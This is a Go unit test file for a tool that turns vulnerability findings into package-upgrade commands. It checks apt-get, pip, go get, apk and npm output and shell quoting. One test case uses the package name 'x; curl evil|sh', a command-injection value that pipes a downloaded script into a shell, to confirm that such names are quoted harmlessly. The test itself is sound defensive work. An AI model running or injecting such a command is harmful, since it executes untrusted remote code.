package recommend

import (
	"strings"
	"testing"
)

func TestFixFor(t *testing.T) {
	tests := []struct {
		name     string
		target   FixTarget
		wantText string
		wantNote string // a part of the note
		wantOK   bool
	}{
		{
			name:     "deb upgrades every binary of the source",
			target:   FixTarget{Type: "deb", Name: "libssl3", FixedVersion: "3.0.13-1~deb12u1", Binaries: []string{"openssl", "libssl3"}},
			wantText: "RUN apt-get update && apt-get install --only-upgrade -y libssl3 openssl",
			wantNote: "mirror", wantOK: true,
		},
		{
			name:     "deb without known binaries upgrades itself",
			target:   FixTarget{Type: "deb", Name: "python3-urllib3", FixedVersion: "1.26.12-1+deb12u1"},
			wantText: "RUN apt-get update && apt-get install --only-upgrade -y python3-urllib3",
			wantOK:   true,
		},
		{
			name:     "pypi",
			target:   FixTarget{Type: "python", Name: "urllib3", FixedVersion: "1.26.18"},
			wantText: "pip install 'urllib3>=1.26.18'",
			wantNote: "requirements.txt", wantOK: true,
		},
		{
			name:     "pypi installed by the OS",
			target:   FixTarget{Type: "python", Name: "urllib3", FixedVersion: "1.26.18", Paths: []string{"/usr/lib/python3/dist-packages/urllib3-1.26.12.egg-info"}},
			wantText: "pip install 'urllib3>=1.26.18'",
			wantNote: "python3-urllib3", wantOK: true,
		},
		{
			name:     "go module gets a v",
			target:   FixTarget{Type: "go-module", Name: "github.com/tidwall/gjson", FixedVersion: "1.6.4"},
			wantText: "go get github.com/tidwall/gjson@v1.6.4\ngo mod tidy",
			wantNote: "rebuild", wantOK: true,
		},
		{
			name:     "go toolchain",
			target:   FixTarget{Type: "go-stdlib", Name: "stdlib", FixedVersion: "1.19.9", Paths: []string{"/usr/bin/containerd"}},
			wantText: "# Rebuild with Go 1.19.9 or later, e.g. in the build stage:\nFROM golang:1.19.9 AS build",
			wantNote: "Rebuild with Go 1.19.9 or later: /usr/bin/containerd", wantOK: true,
		},
		{
			name:     "base layer",
			target:   FixTarget{Type: "deb", Name: "libc6", FixedVersion: "2.36-9+deb12u7", BaseLayer: true},
			wantText: baseImageFix.Text, wantOK: true,
		},
		{
			name:   "no fixed version",
			target: FixTarget{Type: "python", Name: "jinja2"},
		},
		{
			name:     "hostile name is quoted",
			target:   FixTarget{Type: "apk", Name: "x; curl evil|sh", FixedVersion: "1"},
			wantText: "RUN apk upgrade --no-cache 'x; curl evil|sh'",
			wantOK:   true,
		},
		{
			name:     "quote inside a name",
			target:   FixTarget{Type: "npm", Name: "a'b", FixedVersion: "2.0.0"},
			wantText: `npm install 'a'\''b@2.0.0'`,
			wantOK:   true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := FixFor(tt.target)
			if ok != tt.wantOK || got.Text != tt.wantText || !strings.Contains(got.Note, tt.wantNote) {
				t.Errorf("FixFor = %q, note %q, %v; want %q, note with %q, %v", got.Text, got.Note, ok, tt.wantText, tt.wantNote, tt.wantOK)
			}
		})
	}
}

func TestFixForSteps(t *testing.T) {
	steps := []Step{
		{Kind: "rebuild_base", Findings: 2},
		{Kind: "upgrade", Package: "urllib3", Type: "python", From: "1.26.12", To: "1.26.18"},
		{Kind: "upgrade", Package: "requests", Type: "python", From: "2.28.1", To: "2.31.0"},
		{Kind: "upgrade", Package: "libssl3", Type: "deb", From: "3.0.11-1~deb12u2", To: "3.0.13-1~deb12u1"},
		{Kind: "no_fix", Findings: 1},
	}
	facts := func(s Step) ([]string, []string) {
		return map[string][]string{"libssl3": {"libssl3", "openssl"}}[s.Package], nil
	}
	got, ok := FixForSteps(steps, facts)
	want := baseImageFix.Text + "\n\n" +
		"RUN apt-get update && apt-get install --only-upgrade -y libssl3 openssl\n" +
		"pip install 'requests>=2.31.0' 'urllib3>=1.26.18'"
	if !ok || got.Text != want {
		t.Errorf("FixForSteps =\n%s\nwant\n%s", got.Text, want)
	}
	if _, ok := FixForSteps([]Step{{Kind: "no_fix", Findings: 3}}, nil); ok {
		t.Error("FixForSteps with only unfixable findings has a fix")
	}
}
